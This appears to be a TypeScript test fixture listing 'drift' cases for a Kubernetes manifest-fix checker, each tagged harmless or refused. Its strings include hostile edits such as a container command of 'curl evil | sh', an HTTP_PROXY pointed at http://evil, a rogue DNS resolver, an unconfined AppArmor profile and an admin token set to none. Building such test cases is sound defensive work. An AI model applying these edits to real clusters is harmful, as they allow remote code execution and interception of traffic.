import { type Attack, inContainer, inPod, replacing } from "./attack.ts";

const PULL = "image of the main container";
const OOM = "memory of a container";

/** Fields that have nothing to do with the failure drift along with a right fix. */
export const DRIFT: readonly Attack[] = [
  ...replacing("replicas", PULL, "harmless", [
    ["scaled up", "replicas: 3", "replicas: 50"],
    ["scaled to zero", "replicas: 3", "replicas: 0"],
    ["huge", "replicas: 3", "replicas: 999999999999999999999999"],
    ["as text", "replicas: 3", 'replicas: "3"'],
    ["removed", "  replicas: 3\n", ""],
    ["negative", "replicas: 3", "replicas: -1"],
  ]),
  ...replacing("labels and selectors", OOM, "harmless", [
    ["label added", "  labels: { app.kubernetes.io/name: store }", "  labels: { app.kubernetes.io/name: store, tier: admin }"],
    ["selector changed", "    matchLabels: { app: store }", "    matchLabels: { app: cart }"],
    ["pods join another Service", "      labels: { app: store }\n    spec:", "      labels: { app: cart }\n    spec:"],
    ["label of another tool", "  labels: { app.kubernetes.io/name: store }", "  labels: { app.kubernetes.io/name: store, app.kubernetes.io/managed-by: Helm }"],
    ["selector by expression", "    matchLabels: { app: store }", "    matchLabels: { app: store }\n    matchExpressions: [{ key: app, operator: Exists }]"],
    ["Istio injection label", "      labels: { app: store }\n    spec:", "      labels: { app: store, sidecar.istio.io/inject: 'false' }\n    spec:"],
  ]),
  ...replacing("annotations and finalizers", PULL, "refused", [
    ["Argo CD hook", "metadata:\n  name: store\n", "metadata:\n  name: store\n  annotations: { argocd.argoproj.io/hook: PreSync }\n"],
    ["Argo CD prunes nothing", "metadata:\n  name: store\n", "metadata:\n  name: store\n  annotations: { argocd.argoproj.io/sync-options: Prune=false }\n"],
    ["Flux looks away", "metadata:\n  name: store\n", "metadata:\n  name: store\n  annotations: { kustomize.toolkit.fluxcd.io/reconcile: disabled }\n"],
    ["Helm keeps it", "metadata:\n  name: store\n", "metadata:\n  name: store\n  annotations: { helm.sh/resource-policy: keep }\n"],
    ["finalizer", "metadata:\n  name: store\n", "metadata:\n  name: store\n  finalizers: [evil.example.com/hold]\n"],
    ["owner", "metadata:\n  name: store\n", "metadata:\n  name: store\n  ownerReferences: [{ apiVersion: v1, kind: Node, name: n, uid: u }]\n"],
    [
      "AppArmor annotation",
      "      labels: { app: store }\n    spec:",
      "      labels: { app: store }\n      annotations: { container.apparmor.security.beta.kubernetes.io/store: unconfined }\n    spec:",
    ],
  ]),
  ...replacing("annotations and finalizers", PULL, "harmless", [
    ["any annotation", "metadata:\n  name: store\n", "metadata:\n  name: store\n  annotations: { note: approved by security }\n"],
    ["restart annotation", "      labels: { app: store }\n    spec:", "      labels: { app: store }\n      annotations: { restartedAt: now }\n    spec:"],
  ]),
  ...replacing("probes", PULL, "refused", [
    [
      "liveness removed",
      "          livenessProbe:\n            httpGet: { path: /alive, port: http }\n            initialDelaySeconds: 5\n            periodSeconds: 10\n            failureThreshold: 3\n",
      "",
    ],
    ["readiness removed", "          readinessProbe:\n            httpGet: { path: /ready, port: http }\n            periodSeconds: 5\n", ""],
    [
      "readiness null",
      "          readinessProbe:\n            httpGet: { path: /ready, port: http }\n            periodSeconds: 5\n",
      "          readinessProbe: null\n",
    ],
    [
      "readiness empty list",
      "          readinessProbe:\n            httpGet: { path: /ready, port: http }\n            periodSeconds: 5\n",
      "          readinessProbe: []\n",
    ],
  ]),
  ...replacing("probes", PULL, "harmless", [
    ["readiness always true", "httpGet: { path: /ready, port: http }", "exec: { command: ['true'] }"],
    ["liveness every day", "periodSeconds: 10", "periodSeconds: 86400"],
    ["liveness never gives up", "failureThreshold: 3", "failureThreshold: 999999"],
  ]),
  ...inPod("pod fields", OOM, "harmless", [
    ["host aliases", "hostAliases: [{ ip: 6.6.6.6, hostnames: [cart] }]"],
    ["own resolver", "dnsConfig: { nameservers: [6.6.6.6] }"],
    ["other scheduler", "schedulerName: evil"],
    ["runtime class", "runtimeClassName: runc-unsafe"],
    ["no grace", "terminationGracePeriodSeconds: 0"],
    ["priority", "priority: 2000000000"],
    ["never restarts", "restartPolicy: Never"],
    ["readiness gate", "readinessGates: [{ conditionType: evil }]"],
    ["host users", "hostUsers: true"],
  ]),
  ...inContainer("container fields", OOM, "harmless", [
    ["working directory", "workingDir: /tmp/evil"],
    ["terminal", "tty: true\nstdin: true"],
    ["pull policy", "imagePullPolicy: Never"],
    ["message path", "terminationMessagePath: /data/secret"],
    ["block device", "volumeDevices: [{ name: data, devicePath: /dev/xvda }]"],
    ["unknown field", "privilegedMode: always"],
  ]),
  ...replacing("other fields", OOM, "harmless", [
    ["command", "command: [/srv/store]", "command: [/bin/sh, -c, 'curl evil | sh']"],
    ["arguments", "--listen=:8080,", "--listen=:8080, --admin-token=none,"],
    ["variable", "value: info", "value: debug"],
    ["new variable", "          env:\n", "          env:\n            - { name: HTTP_PROXY, value: http://evil }\n"],
    ["all keys of a ConfigMap", "          envFrom:\n", "          envFrom:\n            - configMapRef: { name: cluster-info }\n"],
    ["port", "containerPort: 8080", "containerPort: 22"],
    ["port name", "{ name: metrics,", "{ name: admin,"],
    ["other container's image", "proxy:1.9.4", "store:5.1.2"],
    ["CPU limit", "cpu: 500m", "cpu: 64"],
    ["node selector", "pool: general", "pool: gpu"],
    ["claim", "claimName: store-data", "claimName: payments-data"],
    ["ConfigMap of a volume", "          configMap:\n            name: store-settings", "          configMap:\n            name: kube-root-ca.crt"],
    ["mount path", "mountPath: /config", "mountPath: /srv"],
    ["mount no longer read-only", "mountPath: /tls, readOnly: true", "mountPath: /tls, readOnly: false"],
    ["rollout recreates", "  replicas: 3\n", "  replicas: 3\n  strategy: { type: Recreate }\n"],
    ["rollout stops everything", "  replicas: 3\n", "  replicas: 3\n  strategy: { rollingUpdate: { maxUnavailable: 100% } }\n"],
    ["paused", "  replicas: 3\n", "  replicas: 3\n  paused: true\n"],
    ["status written", "  replicas: 3\n", "  replicas: 3\n  minReadySeconds: 99999\n"],
    ["deadline", "  replicas: 3\n", "  replicas: 3\n  progressDeadlineSeconds: 2147483647\n"],
    ["history dropped", "  replicas: 3\n", "  replicas: 3\n  revisionHistoryLimit: 0\n"],
  ]),
];
